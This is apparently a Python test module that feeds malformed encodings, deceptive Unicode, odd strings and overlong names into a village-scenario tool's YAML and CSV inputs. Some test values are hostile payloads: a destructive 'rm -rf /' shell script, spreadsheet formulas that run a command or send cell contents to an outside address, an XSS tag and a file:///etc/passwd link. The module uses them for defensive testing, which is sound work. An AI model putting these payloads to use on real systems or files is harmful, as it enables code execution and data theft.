"""Bytes that are no text, characters that deceive, and names longer than any name.

Knows encodings and Unicode; must not know which of them are read.
"""

from __future__ import annotations

import gzip
from collections.abc import Iterator
from functools import partial
from unicodedata import normalize

from inputs.scenario_desk import VILLAGES

from .bench import ACCEPTED, REFUSED, Bench, Case
from .yaml_cases import SOUND

ENCODINGS = {
    "UTF-8 with a byte order mark": (lambda text: b"\xef\xbb\xbf" + text.encode(), ACCEPTED),
    "UTF-8 with two byte order marks": (lambda text: b"\xef\xbb\xbf" * 2 + text.encode(), ACCEPTED),
    "UTF-16 with a byte order mark": (lambda text: text.encode("utf-16"), REFUSED),
    "UTF-16 without a byte order mark": (lambda text: text.encode("utf-16-le"), REFUSED),
    "UTF-16 the other way round": (lambda text: b"\xfe\xff" + text.encode("utf-16-be"), REFUSED),
    "UTF-32": (lambda text: text.encode("utf-32"), REFUSED),
    "UTF-7": (lambda text: text.replace("Contoh", "Contoh\u00e9").encode("utf-7"), ACCEPTED),
    "Latin-1": (lambda text: text.replace("a", "\u00e0").encode("latin-1"), REFUSED),
    "Windows quotes": (lambda text: text.encode() + b"# \x93Kampung\x94\n", REFUSED),
    "GB18030": (lambda text: text.encode() + "# \u6751".encode("gb18030"), REFUSED),
    "EBCDIC": (lambda text: text.encode("cp500"), REFUSED),
    "an overlong form": (lambda text: text.encode() + b"# \xc0\xae\xc0\xae/\n", REFUSED),
    "half a character as UTF-8": (lambda text: text.encode() + b"# \xed\xa0\x80\n", REFUSED),
    "a character beyond Unicode": (lambda text: text.encode() + b"# \xf4\x90\x80\x80\n", REFUSED),
    "a character cut short": (lambda text: text.encode() + b"# \xe2\x82", REFUSED),
    "a NUL": (lambda text: text.encode() + b"\0", REFUSED),
    "nothing": (lambda _: b"", REFUSED),
    "nothing but a byte order mark": (lambda _: b"\xef\xbb\xbf", REFUSED),
    "nothing but line ends": (lambda _: b"\n\r\n\r" * 100, REFUSED),
    "nothing but blanks": (lambda _: b" " * 100, REFUSED),
    "line ends of Windows": (lambda text: text.replace("\n", "\r\n").encode(), ACCEPTED),
    "line ends of old Macintosh": (lambda text: text.replace("\n", "\r").encode(), ACCEPTED),
    "line ends of all kinds": (lambda text: "".join(a + b for a, b in zip(text.splitlines(), "\n\r\n\r" * 9, strict=False)).encode(), ACCEPTED),
    "a gzip archive": (lambda text: gzip.compress(text.encode(), mtime=0), REFUSED),
    "a picture": (lambda _: b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR", REFUSED),
    "a PDF": (lambda _: b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n", REFUSED),
    "a program": (lambda _: b"\x7fELF\x02\x01\x01\0" + bytes(range(256)), REFUSED),
    "a script": (lambda _: b"#!/bin/sh\nrm -rf /\n", REFUSED),
    "every byte there is": (lambda _: bytes(range(256)) * 20, REFUSED),
}  # fmt: skip
"""How a sound file is spoilt, and how that must end."""

DECEIVING = {
    "a bell": "\x07",
    "an escape": "\x1b[2J",
    "a backspace": "\x08",
    "a delete": "\x7f",
    "a control sequence of eight bits": "\x9b31m",
    "a form feed": "\x0c",
    "a vertical tab": "\x0b",
    "a line separator": "\u2028",
    "a paragraph separator": "\u2029",
    "an override to the left": "\u202e",
    "an embedding": "\u202a",
    "an isolate": "\u2067",
    "a mark to the left": "\u200f",
    "a blank of no width": "\u200b",
    "a joiner of no width": "\u200d",
    "a word joiner": "\u2060",
    "a soft hyphen": "\u00ad",
    "a byte order mark inside": "\ufeff",
    "a Mongolian separator": "\u180e",
    "a tag": "\U000e0041",
    "an annotation": "\ufff9",
    "no character": "\uffff",
}
LEFT_OUT = {"a blank of no width", "a word joiner", "a byte order mark inside"}
"""What is left out of cells, for spreadsheet programs and web pages leave it there unseen."""
UNUSUAL = {
    "letters from right to left": "\u0643\u0645\u0628\u0648\u0646\u063a",
    "Chinese": "\u6751\u838a",
    "Javanese": "\ua98f\ua9a9\ua9a5\ua9b8\ua9c1",
    "a smiling face": "\U0001f600",
    "a letter outside the plane": "\U00010348",
    "fifty accents on one letter": "a" + "\u0301" * 50,
    "letters that look like others": "\u0421\u043e\u0441\u043e",
    "a blank of no break": "A\u00a0B",
    "a private letter": "\ue000",
    "a letter not assigned": "\u0378",
    "an apostrophe": "Ma'rifat",
    "quotes": 'Kampung "Baru"',
    "backslashes": "A\\nB\\",
    "a dollar formula": "$x^{2}$ $\\frac{",
    "a percent": "%s %d %(a)s 100%",
    "places of a sentence": "{name} {0.__class__} {{",
    "a link": "[link=file:///etc/passwd]a[/link]",
    "a tag of HTML": "<img src=x onerror=alert(1)>",
}

FORMULAS = {
    "a command": "=cmd|'/C calc'!A0",
    "a sum": "@SUM(A1:A9)",
    "a plus": "+1+1",
    "a minus": "-1+1",
    "a link": '=HYPERLINK("http://203.0.113.1/?"&A1,"klik")',
    "an import": '=IMPORTXML("http://203.0.113.1","//a")',
    "equals of full width": "\uff1d1+1",
    "a formula after a semicolon": "Benua;=1+1",
    "a formula after a quote": '"=1+1',
    "a formula after blanks": "  =1+1",
}


def cases() -> Iterator[Case]:
    """Yield every case of this module."""
    for name, (spoil, exit_code) in ENCODINGS.items():
        yield Case(
            "encodings",
            f"scenario: {name}",
            partial(_write, "scenario.yaml", spoil(SOUND)),
            exit_code=exit_code,
        )
        yield Case(
            "encodings",
            f"table: {name}",
            partial(_write, "villages.csv", spoil(VILLAGES)),
            exit_code=exit_code,
        )
    for name, sign in DECEIVING.items():
        yield Case("deceiving characters", f"title: {name}", partial(_title, f"Kampung {sign} Baru"))
        harmless = ACCEPTED if name in LEFT_OUT else REFUSED
        yield Case(
            "deceiving characters", f"table: {name}", partial(_village, f"Kampung {sign} Baru"), exit_code=harmless
        )
    for name, text in UNUSUAL.items():
        yield Case(
            "unusual characters",
            name,
            partial(_everywhere, text),
            exit_code=ACCEPTED,
            figures=name in {"a dollar formula", "Chinese", "a tag of HTML"},
        )
    for name, text in FORMULAS.items():
        yield Case("formulas in names", name, partial(_everywhere, text), exit_code=ACCEPTED)
    yield from _long_names()
    yield Case("names that look alike", "composed and decomposed letters", _two_forms, exit_code=ACCEPTED)


def _long_names() -> Iterator[Case]:
    million = "a" * 1_000_000
    yield Case("long names", "name", lambda bench: bench.scenario(name=f"name: {million}"))
    yield Case("long names", "name of sixty-one letters", lambda bench: bench.scenario(name=f"name: {'a' * 61}"))
    yield Case("long names", "title", lambda bench: bench.scenario(title=f"title: {{id: {million}}}"))
    yield Case(
        "long names", "district", lambda bench: bench.scenario(district=f"district: {{code: a, name: {million}}}")
    )
    yield Case(
        "long names", "district code", lambda bench: bench.scenario(district=f"district: {{code: {million}, name: a}}")
    )
    yield Case("long names", "path", lambda bench: bench.scenario(villages=f"villages: {{table: {million}}}"))
    yield Case("long names", "village", partial(_village, million))
    yield Case("long names", "village of a hundred thousand letters", partial(_village, "a" * 100_000))
    yield Case("long names", "village code", partial(_table, VILLAGES.replace("63.01.01.2001", million)))
    yield Case("long names", "kecamatan", partial(_table, VILLAGES.replace("Jorong", "a" * 100_000)))
    yield Case("long names", "column", partial(_table, VILLAGES.replace("remoteness", million)))
    yield Case("long names", "status", partial(_table, VILLAGES.replace("paripurna", million)))
    yield Case("long names", "number", partial(_table, VILLAGES.replace("1.5,", f"{'1' * 1_000_000},")))
    yield Case(
        "long names",
        "intervention",
        lambda bench: bench.scenario(interventions=f"interventions: [{{name: {million}, starts: 2026, capacity: 1}}]"),
    )


def _write(name: str, content: bytes, bench: Bench) -> None:
    bench.write(name, content)


def _table(text: str, bench: Bench) -> None:
    bench.write("villages.csv", text.encode())


def _title(text: str, bench: Bench) -> None:
    escaped = "".join(f"\\U{ord(letter):08x}" for letter in text)
    bench.scenario(title=f'title: {{id: "{escaped}"}}')


def _cell(text: str) -> str:
    doubled = text.replace('"', '""')
    return f'"{doubled}"'


def _village(name: str, bench: Bench) -> None:
    bench.write("villages.csv", VILLAGES.replace("Benua", _cell(name)).encode())


def _everywhere(text: str, bench: Bench) -> None:
    """Write a text as the name of a village, a kecamatan, a district and a source, as a code and as a title."""
    table = (
        VILLAGES.replace("Benua", _cell(text))
        .replace("Jorong,d", f"{_cell(text)},d")
        .replace("63.01.01.2001", _cell(text))
    )
    bench.write("villages.csv", table.encode())
    quoted = "'" + text.replace("'", "''") + "'"
    bench.scenario(
        title=f"title: {{id: {quoted}, en: {quoted}}}",
        district=f"district: {{code: {quoted}, name: {quoted}}}",
        sources=f"sources: {{horizon: {quoted}}}",
        interventions=f"interventions: [{{name: pokja, sector: {quoted}, starts: 2026, capacity: 1}}]",
    )


def _two_forms(bench: Bench) -> None:
    """Write two kecamatan whose names look the same."""
    composed, decomposed = (normalize(form, "\u00c9l") for form in ("NFC", "NFD"))
    table = VILLAGES.replace("2001,Benua,Takisung", f"2001,Benua,{composed}").replace("Takisung", decomposed)
    bench.write("villages.csv", table.encode())
